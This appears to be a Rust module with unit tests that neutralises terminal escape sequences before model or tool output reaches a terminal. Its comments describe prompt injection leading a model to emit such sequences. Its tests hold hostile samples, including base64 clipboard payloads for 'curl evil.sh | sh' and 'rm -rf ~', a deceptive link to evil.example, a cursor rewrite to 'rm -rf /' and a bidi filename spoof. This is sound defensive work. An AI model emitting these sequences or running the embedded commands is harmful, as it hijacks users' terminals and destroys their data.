//! Neutralise control characters before model (or tool) output reaches a terminal.
//!
//! A model can be made to emit escape sequences (prompt injection through a document or a tool
//! result): OSC 52 writes the clipboard, OSC 0 retitles the window, CSI sequences move the
//! cursor or clear the screen, and a bare CR can overwrite what the user already read. On a
//! terminal every such character is shown in caret notation instead; to a pipe, output stays
//! byte-exact (callers only sanitise when the destination is a terminal).

use std::borrow::Cow;

/// Replace control characters except newline and tab with visible caret notation (`^[`, `^G`),
/// C1 controls and bidirectional overrides with `<U+009B>`-style text, and a CR that is not
/// part of CRLF with `^M`.
pub fn for_terminal(s: &str) -> Cow<'_, str> {
    if !s.chars().any(needs_escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {}
            c if needs_escape(c) => {
                let code = c as u32;
                if code < 0x20 {
                    out.push('^');
                    out.push(char::from_u32(code + 0x40).unwrap_or('?'));
                } else if code == 0x7f {
                    out.push_str("^?");
                } else {
                    out.push_str(&format!("<U+{code:04X}>"));
                }
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

pub use brock_bedrock::clip;

fn needs_escape(c: char) -> bool {
    let code = c as u32;
    (code < 0x20 && c != '\n' && c != '\t')
        || code == 0x7f
        || (0x80..0xa0).contains(&code)
        // Explicit embeddings, overrides and isolates reorder what is shown ("Trojan Source"):
        // text can read differently from what it is. Ordinary right-to-left text needs none.
        || (0x202a..=0x202e).contains(&code)
        || (0x2066..=0x2069).contains(&code)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_sequences_are_made_visible() {
        let osc52 = "copy \x1b]52;c;cm0gLXJmIH4=\x07 done";
        let shown = for_terminal(osc52);
        assert!(
            !shown.contains('\x1b') && !shown.contains('\x07'),
            "{shown:?}"
        );
        assert_eq!(shown, "copy ^[]52;c;cm0gLXJmIH4=^G done");
        assert_eq!(for_terminal("\x1b]0;pwned\x07"), "^[]0;pwned^G");
        assert_eq!(for_terminal("a\x1b[2J\x1b[1;1Hb"), "a^[[2J^[[1;1Hb");
        assert_eq!(for_terminal("over\rwrite"), "over^Mwrite");
        assert_eq!(for_terminal("\u{9b}31m"), "<U+009B>31m");
        assert_eq!(for_terminal("del\x7f"), "del^?");
    }

    /// Escape sequences seen in model and tool output in the wild (prompt-injection write-ups,
    /// terminal-emulator advisories): none may leave a raw ESC, BEL, C1 or override behind.
    #[test]
    fn recorded_hostile_strings_are_all_neutralised() {
        let hostile = [
            // OSC 52 clipboard write, BEL- and ST-terminated.
            "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
            "\x1b]52;p;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
            // Window title set, then a title report request (echoes it back as input).
            "\x1b]0;sudo rm -rf ~\x07\x1b[21t",
            // OSC 8 hyperlink whose text lies about its target.
            "\x1b]8;;https://evil.example/\x1b\\https://docs.aws.amazon.com\x1b]8;;\x1b\\",
            // Clear screen, home, alternate screen, hidden cursor, scroll region.
            "\x1b[2J\x1b[H\x1b[?1049h\x1b[?25l\x1b[1;1r",
            // Cursor up and erase line: rewrite what the user already read.
            "safe command\x1b[1A\x1b[2Krm -rf /",
            // Device status / attribute reports: the terminal types the answer into stdin.
            "\x1b[6n\x1b[c\x1bZ",
            // DCS and APC strings, 8-bit CSI and OSC.
            "\x1bP+q544e\x1b\\\x1b_payload\x1b\\\u{9b}31m\u{9d}0;t\u{9c}",
            // Backspaces and CR overwrite.
            "yes\x08\x08\x08no\rOK",
            // Bidi override: shows "txt.exe" reversed as "exe.txt".
            "invoice\u{202e}txt.exe\u{202c} and \u{2066}isolate\u{2069}",
            // NUL, vertical tab, form feed, DEL.
            "a\0b\x0bc\x0cd\x7f",
        ];
        for h in hostile {
            let shown = for_terminal(h);
            assert!(
                !shown.chars().any(needs_escape),
                "{h:?} left a control: {shown:?}"
            );
            assert!(
                !shown.contains('\x1b') && !shown.contains('\x07') && !shown.contains('\r'),
                "{h:?} -> {shown:?}"
            );
        }
        assert_eq!(for_terminal("yes\x08no"), "yes^Hno");
        assert_eq!(
            for_terminal("invoice\u{202e}txt.exe"),
            "invoice<U+202E>txt.exe"
        );
        // Right-to-left scripts themselves are text, not controls.
        assert_eq!(for_terminal("שלום مرحبا"), "שלום مرحبا");
    }

    #[test]
    fn long_echoes_are_clipped() {
        assert_eq!(clip("abc", 3), "abc");
        assert_eq!(clip("abcdé", 3), "abc… (2 more characters)");
    }

    #[test]
    fn ordinary_text_is_untouched() {
        let s = "línea 1\r\n\tcode → ok 🚀\n";
        assert_eq!(for_terminal(s), "línea 1\n\tcode → ok 🚀\n");
        assert!(matches!(for_terminal("plain"), Cow::Borrowed(_)));
    }
}
